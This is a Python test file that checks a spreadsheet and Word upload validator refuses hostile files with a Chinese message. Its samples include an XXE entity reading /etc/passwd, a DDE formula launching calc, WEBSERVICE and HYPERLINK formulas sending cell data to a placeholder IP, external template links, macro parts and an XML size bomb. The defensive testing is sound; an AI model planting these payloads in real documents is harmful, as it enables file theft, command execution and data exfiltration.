"""Hostile blanks: refused in words by a child that dies alone; nothing runs, fetches or sends."""

import zipfile
from io import BytesIO

import openpyxl
import pytest
from openpyxl import Workbook

from dangjian.foundation.documents.content import Unsupported
from dangjian.foundation.documents.filling import survey
from dangjian.foundation.documents.filling.tests import blanks

GOOD = blanks.workbook(["镇乡", "党员数"], ["石桥镇"])
WORD = blanks.word(["镇乡", "党员数"], ["石桥镇"])
RELATION = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    ' Target="http://203.0.113.9/x" TargetMode="External"/></Relationships>'
)


def with_parts(data: bytes, **changed: bytes) -> bytes:
    """The archive with parts added or replaced."""
    new = dict(changed)
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in old.namelist():
            archive.writestr(name, new.pop(name) if name in new else old.read(name))
        for name, content in new.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def related(data: bytes, name: str, kind: str) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        old = archive.read(name).decode()
    return with_parts(data, **{name: old.replace("</Relationships>", RELATION % kind).encode()})


def formula(words: str) -> bytes:
    book = openpyxl.load_workbook(BytesIO(GOOD))
    book.worksheets[0]["B5"] = words
    return blanks.saved(book)


def far_cell() -> bytes:
    book = Workbook()
    book.worksheets[0].cell(1_048_576, 16_384, "远")
    return blanks.saved(book)


def many_cells() -> bytes:
    rows = "".join(f'<row r="{r}">' + "<c><v>1</v></c>" * 100 + "</row>" for r in range(1, 10_001))
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    return with_parts(GOOD, **{"xl/worksheets/sheet1.xml": sheet.encode()})


XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
BOMB = b"<a>" + b" " * 80_000_000 + b"</a>"
MAIN = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "空的"),
        (b"PK\x03\x04 broken", "已损坏"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "另存为"),
        ("镇乡,党员数".encode(), "不是 Excel 或 Word"),
        (with_parts(GOOD, **{"xl/vbaProject.bin": b"x"}), "宏"),
        (with_parts(GOOD, **{"xl/activeX/a.xml": b"<a/>"}), "宏"),
        (with_parts(GOOD, **{"xl/externalLinks/externalLink1.xml": b"<a/>"}), "外部数据"),
        (with_parts(GOOD, **{"xl/connections.xml": b"<a/>"}), "外部数据"),
        (with_parts(WORD, **{"word/embeddings/a.bin": b"x"}), "嵌有"),
        (related(WORD, "word/_rels/document.xml.rels", "image"), "外部图片"),
        (related(WORD, "word/_rels/document.xml.rels", "attachedTemplate"), "外部图片"),
        (formula('=WEBSERVICE("http://203.0.113.9/"&A5)'), "公式"),
        (formula("=cmd|'/c calc'!A0"), "公式"),
        (formula("='[1]表'!A1"), "公式"),
        (formula('=HYPERLINK("http://203.0.113.9/"&A5,"看")'), "公式"),
        (with_parts(GOOD, **{MAIN: XXE}), "可能不安全"),
        (with_parts(WORD, **{"word/document.xml": XXE}), "可能不安全"),
        (with_parts(GOOD, **{MAIN: BOMB}), "过大"),
        (far_cell(), "1048576 行 16384 列"),
        (many_cells(), "太大"),
        (with_parts(GOOD, **{MAIN: b"<not closed"}), "已损坏"),
        (with_parts(GOOD, **{"xl/workbook.xml": b"<x/>"}), "没有找到表格"),
    ],
    ids=range(23),
)
def test_what_is_refused_says_why(data: bytes, says: str) -> None:
    with pytest.raises(Unsupported, match=says) as refusal:
        survey(data, "表.xlsx")
    assert str(refusal.value).endswith("。")


def test_the_control_the_good_ones_are_read_links_that_are_clicked_too() -> None:
    assert survey(GOOD, "表.xlsx").grids[0].rows[4][0] == "石桥镇"
    assert survey(related(WORD, "word/_rels/document.xml.rels", "hyperlink"), "表.docx").grids


def test_a_mark_of_secrecy_on_a_hidden_sheet_is_in_the_text() -> None:
    book = openpyxl.load_workbook(BytesIO(GOOD))
    hidden = book.create_sheet("藏")
    hidden["A1"] = "机密★10年"
    hidden.sheet_state = "hidden"
    assert "机密★10年" in survey(blanks.saved(book), "表.xlsx").text
